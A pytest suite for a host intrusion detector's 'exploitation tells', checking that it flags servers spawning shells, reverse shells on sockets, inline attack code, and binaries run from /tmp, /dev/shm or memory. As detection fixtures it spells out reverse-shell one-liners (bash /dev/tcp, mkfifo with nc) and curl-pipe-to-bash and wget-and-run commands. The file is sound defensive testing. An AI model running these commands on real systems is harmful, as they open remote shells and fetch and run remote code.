"""Exploitation tells: on a fake process table, then real processes seen by the real kernel."""

from __future__ import annotations

import os
import re
import shutil
import socket
import sys
import tempfile
from collections.abc import Iterator
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st

from tests.modules.behavior.test_process_tree import (
    TTY,
    Watcher,
    World,
    real_kernel,
)
from yoroi.errors import PolicyError
from yoroi.events.enums import Severity
from yoroi.modules.behavior.tells import Tell, TellKind, TellRules, check_exec

JAVA = "/usr/lib/jvm/java-17-openjdk-amd64/bin/java"


@pytest.fixture
def world() -> Iterator[World]:
    w = World()
    w.add(60, 1, "/usr/lib/systemd/systemd", "/lib/systemd/systemd")
    yield w
    w.conn.close()


def spawn(world: World, parent: int, pid: int, exe: str, *argv: str) -> list[Tell]:
    """``parent`` forks ``pid``, which execs ``exe``; the tells of that exec."""
    world.fork(parent, pid)
    world.exec(pid, exe, *argv)
    return check_exec(world.tree, pid, fd_reader=lambda p, fd: world.fds.get((p, fd)))


def kinds(tells: list[Tell]) -> list[TellKind]:
    return [tell.kind for tell in tells]


def start(world: World, pid: int, exe: str, *argv: str) -> int:
    world.add(pid, 60, exe, *argv)
    world.tree.snapshot()
    return pid


def test_java_starting_sh_c_id_is_reported(world: World) -> None:
    java = start(world, 200, JAVA, "java", "-jar", "struts2-showcase.jar")
    tells = spawn(world, java, 201, "/usr/bin/dash", "/bin/sh", "-c", "id")
    assert kinds(tells) == [TellKind.SERVER_SHELL]
    tell = tells[0]
    assert tell.title == "server started a shell" and tell.severity == Severity.HIGH
    assert (tell.pid, tell.exe, tell.cmdline) == (201, "/usr/bin/dash", ("/bin/sh", "-c", "id"))
    assert tell.parent == (JAVA, java)
    assert tell.detail == "java (pid 200) started dash: id"


def test_a_grandchild_within_depth_is_reported_beyond_it_not(world: World) -> None:
    fpm = start(world, 300, "/usr/sbin/php-fpm8.2", "php-fpm: pool www")
    assert kinds(spawn(world, fpm, 301, "/usr/bin/dash", "sh", "-c", "curl x | sh")) == [
        TellKind.SERVER_SHELL,
        TellKind.INLINE_CODE,
    ]
    assert kinds(spawn(world, 301, 302, "/usr/bin/curl", "curl", "-s", "http://x/")) == [
        TellKind.SERVER_DOWNLOADER
    ]
    world.fork(301, 303)
    world.fork(303, 304)
    assert kinds(spawn(world, 304, 305, "/usr/bin/wget", "wget", "x")) == []  # 4 levels down


def test_nginx_starting_nc_and_a_server_started_by_an_interpreter(world: World) -> None:
    nginx = start(world, 400, "/usr/sbin/nginx", "nginx: worker process")
    assert kinds(spawn(world, nginx, 401, "/usr/bin/nc.openbsd", "nc", "10.0.0.1", "4444")) == [
        TellKind.SERVER_DOWNLOADER
    ]
    django = start(world, 410, "/usr/bin/python3.11", "python3", "manage.py", "runserver")
    assert kinds(spawn(world, django, 411, "/usr/bin/bash", "bash", "-c", "ls")) == [
        TellKind.SERVER_SHELL
    ]
    uvicorn = start(world, 420, "/usr/bin/python3.11", "python3", "-m", "uvicorn", "app:app")
    tells = spawn(world, uvicorn, 421, "/usr/bin/python3.11", "python3", "-c", "print(1)")
    assert kinds(tells) == [TellKind.INLINE_CODE]
    assert "started by python3.11 uvicorn (pid 420)" in tells[0].detail


def test_honest_shells_and_tools_are_not_reported(world: World) -> None:
    bash = world.session()
    world.tree.snapshot()
    assert spawn(world, bash, 500, "/usr/bin/dash", "sh", "-c", "make all") == []
    assert spawn(world, bash, 501, "/usr/bin/curl", "curl", "-O", "https://x/") == []
    assert spawn(world, bash, 502, "/usr/bin/python3.11", "python3", "-c", "print(1)") == []
    assert spawn(world, bash, 503, "/usr/local/bin/app", "app") == []


def test_npm_is_not_a_server(world: World) -> None:
    npm = start(world, 600, "/usr/bin/node", "node", "/usr/lib/node_modules/npm/bin/npm-cli.js")
    assert spawn(world, npm, 601, "/usr/bin/dash", "sh", "-c", "node server.js") == []


def test_an_interactive_shell_stops_the_search_for_a_server(world: World) -> None:
    node = start(world, 700, "/usr/bin/node", "node", "/srv/vscode/server-main.js")
    world.fork(700, 701)
    world.fds[(701, 0)] = TTY
    world.exec(701, "/usr/bin/bash", "bash")  # the IDE's terminal: reported, once
    assert kinds(check_exec(world.tree, 701, fd_reader=lambda p, f: world.fds.get((p, f)))) == [
        TellKind.SERVER_SHELL
    ]
    assert spawn(world, 701, 702, "/usr/bin/dash", "sh", "-c", "ls") == []  # typed in it
    assert node == 700


@pytest.mark.parametrize(
    "code",
    [
        "bash -i >& /dev/tcp/10.0.0.1/4444 0>&1",
        "echo aWQK | base64 -d | sh",
        "curl -s http://x/a.sh | bash",
        "rm /tmp/f; mkfifo /tmp/f; cat /tmp/f | sh -i 2>&1 | nc 10.0.0.1 4444 > /tmp/f",
        "wget -q http://x/m -O /tmp/m; chmod +x /tmp/m; /tmp/m",
    ],
)
def test_attack_like_inline_shell_code_is_reported_anywhere(world: World, code: str) -> None:
    tells = spawn(world, 60, 800, "/usr/bin/bash", "bash", "-c", code)
    assert kinds(tells) == [TellKind.INLINE_CODE]
    assert code[:50] in tells[0].detail


@pytest.mark.parametrize(
    ("exe", "argv"),
    [
        ("/usr/bin/python3.11", ("python3", "-c", "import socket,subprocess;s=socket.socket()")),
        ("/usr/bin/python3.11", ("python3", "-c", "import pty; pty.spawn('/bin/sh')")),
        ("/usr/bin/perl", ("perl", "-e", "use IO::Socket; $c=new IO::Socket::INET")),
        ("/usr/bin/php8.2", ("php", "-r", "$s=fsockopen('10.0.0.1',4444);")),
        ("/usr/bin/ruby3.1", ("ruby", "-rsocket", "-e", "c=TCPSocket.new('x',1)")),
        ("/usr/bin/node", ("node", "-e", "require('child_process').exec('id')")),
    ],
)
def test_attack_like_inline_interpreter_code(world: World, exe: str, argv: tuple[str]) -> None:
    assert kinds(spawn(world, 60, 810, exe, *argv)) == [TellKind.INLINE_CODE]


def test_reverse_shell_on_a_socket(world: World) -> None:
    world.fds.update({(60, 0): "socket:[4242]", (60, 1): "socket:[4242]"})  # inherited
    tells = spawn(world, 60, 900, "/usr/bin/dash", "sh")
    assert kinds(tells) == [TellKind.REVERSE_SHELL]
    assert tells[0].severity == Severity.CRITICAL
    assert tells[0].detail == "stdin is socket:[4242], stdout is socket:[4242]"


def test_a_shell_under_sshd_on_a_socket_is_an_ssh_session(world: World) -> None:
    world.add(50, 1, "/usr/sbin/sshd", "sshd: ann")
    world.tree.snapshot()
    world.fds.update({(50, 0): "socket:[1]", (50, 1): "socket:[1]"})
    assert spawn(world, 50, 901, "/usr/bin/bash", "bash") == []


@pytest.mark.parametrize(
    ("exe", "deleted", "kind", "severity"),
    [
        ("/tmp/.x/miner", False, TellKind.EXEC_FROM_TMP, Severity.MEDIUM),
        ("/dev/shm/kworker", False, TellKind.EXEC_FROM_TMP, Severity.MEDIUM),
        ("/var/tmp/a", False, TellKind.EXEC_FROM_TMP, Severity.MEDIUM),
        ("/usr/local/bin/x", True, TellKind.DELETED_EXE, Severity.HIGH),
        ("/memfd:payload", True, TellKind.MEMFD_EXEC, Severity.HIGH),
    ],
)
def test_exec_from_writable_places_deleted_files_and_memory(
    world: World, exe: str, deleted: bool, kind: TellKind, severity: Severity
) -> None:
    world.add(950, 60, exe, "x", exe_deleted=deleted)
    world.tree.snapshot()
    tells = check_exec(world.tree, 950, fd_reader=lambda p, f: None)
    assert [(t.kind, t.severity) for t in tells] == [(kind, severity)]


def test_tmp_prefix_is_a_directory_not_a_string_prefix(world: World) -> None:
    world.add(951, 60, "/tmpfs/bin/tool", "tool")
    world.tree.snapshot()
    assert check_exec(world.tree, 951, fd_reader=lambda p, f: None) == []


def test_gone_or_unknown_processes_give_nothing(world: World) -> None:
    world.tree.snapshot()
    assert check_exec(world.tree, 4242) == []
    world.fork(60, 960)
    world.exec(960, "/usr/bin/dash", "sh", "-c", "bash -i >& /dev/tcp/x/1 0>&1", pump=False)
    world.exit(960, pump=False)
    world.pump()
    assert check_exec(world.tree, 960) == []  # exited before its new image could be read


def test_rules_are_configurable(world: World) -> None:
    app = start(world, 970, "/opt/app/bin/myserver", "myserver")
    rules = TellRules(servers=("myserver",), downloaders=("fetch",), depth=1)
    world.fork(app, 971)
    world.exec(971, "/usr/bin/fetch", "fetch", "x")
    assert kinds(check_exec(world.tree, 971, rules, lambda p, f: None)) == [
        TellKind.SERVER_DOWNLOADER
    ]
    assert check_exec(world.tree, 971, fd_reader=lambda p, f: None) == []  # default rules


@pytest.mark.parametrize(
    ("kwargs", "message"),
    [({"depth": 0}, "depth 0"), ({"suspicious_code": ("(",)}, "'('")],
)
def test_bad_rules_are_refused_with_the_value(kwargs: dict[str, object], message: str) -> None:
    with pytest.raises(PolicyError, match=re.escape(message)):
        TellRules(**kwargs)


@given(argv=st.lists(st.text(max_size=30), min_size=1, max_size=6))
def test_check_exec_never_raises_on_odd_command_lines(argv: list[str]) -> None:
    w = World()
    try:
        w.add(980, 1, "/usr/bin/bash", *argv)
        w.tree.snapshot()
        check_exec(w.tree, 980, fd_reader=lambda p, f: "socket:[1]")
    finally:
        w.conn.close()


# -- the real kernel --------------------------------------------------------------------------


def _full_pipe() -> tuple[int, int]:
    """A pipe whose buffer is full: a writer blocks until the reader drains or closes it."""
    r, w = os.pipe()
    os.set_blocking(w, False)
    try:
        while True:
            os.write(w, b"x" * 65536)
    except BlockingIOError:
        pass
    os.set_blocking(w, True)
    return r, w


def _seen(watch: Watcher, kind: TellKind, pid: int | None = None, ppid: int | None = None) -> bool:
    return any(
        t.kind == kind and (pid is None or t.pid == pid)
        and (ppid is None or (t.parent is not None and t.parent[1] == ppid))
        for t in list(watch.tells)
    )  # fmt: skip


@pytest.mark.root
@real_kernel
def test_real_java_starting_sh_c_id(tmp_path: Path) -> None:
    java = tmp_path / "java"
    java.write_text("#!/bin/sh\n/bin/sh -c id\n")
    java.chmod(0o755)
    # `sh -c id` lives only as long as `id`; a full stdout pipe holds `id` (and so the shell)
    # until the test lets go, so the test does not race the listener thread
    r, w = _full_pipe()
    try:
        with Watcher() as watch:
            proc = watch.start(str(java), stdout=w)
            os.close(w)
            w = -1
            assert watch.wait_for(lambda: _seen(watch, TellKind.SERVER_SHELL, ppid=proc.pid))
        tell = next(t for t in watch.tells if t.kind == TellKind.SERVER_SHELL)
        assert tell.cmdline == ("/bin/sh", "-c", "id") and tell.title == "server started a shell"
        assert f"java (pid {proc.pid}) started" in tell.detail
    finally:
        os.close(r)  # `id` dies of SIGPIPE, the shells end
        if w >= 0:
            os.close(w)


@pytest.mark.root
@real_kernel
def test_real_exec_from_dev_shm() -> None:
    sleep = shutil.which("sleep")
    if sleep is None or not os.path.isdir("/dev/shm"):
        pytest.skip("needs sleep(1) and /dev/shm")
    directory = tempfile.mkdtemp(prefix="yoroi-test-", dir="/dev/shm")
    try:
        copy = shutil.copy(sleep, os.path.join(directory, "kworker"))
        with Watcher() as watch:
            try:
                proc = watch.start(copy, "30")
            except PermissionError:
                pytest.skip("/dev/shm is mounted noexec here")
            assert watch.wait_for(lambda: _seen(watch, TellKind.EXEC_FROM_TMP, pid=proc.pid))
        tell = next(t for t in watch.tells if t.pid == proc.pid)
        assert tell.exe == copy and "/dev/shm" in tell.detail
    finally:
        shutil.rmtree(directory)


@pytest.mark.root
@real_kernel
def test_real_shell_on_a_socketpair() -> None:
    ours, theirs = socket.socketpair()
    try:
        with Watcher() as watch:
            proc = watch.start("/bin/sh", stdin=theirs.fileno(), stdout=theirs.fileno())
            theirs.close()
            assert watch.wait_for(lambda: _seen(watch, TellKind.REVERSE_SHELL, pid=proc.pid))
        tell = next(t for t in watch.tells if t.kind == TellKind.REVERSE_SHELL)
        assert "stdin is socket:[" in tell.detail and "stdout is socket:[" in tell.detail
    finally:
        ours.close()  # the shell reads end-of-file and exits
        theirs.close()


@pytest.mark.root
@real_kernel
def test_real_inline_code() -> None:
    code = "import base64, time; base64.b64decode(b''); time.sleep(30)"
    with Watcher() as watch:
        proc = watch.start(sys.executable, "-c", code)
        assert watch.wait_for(lambda: _seen(watch, TellKind.INLINE_CODE, pid=proc.pid))
    tell = next(t for t in watch.tells if t.pid == proc.pid)
    assert tell.cmdline[1:] == ("-c", code) and "attack-like code" in tell.detail
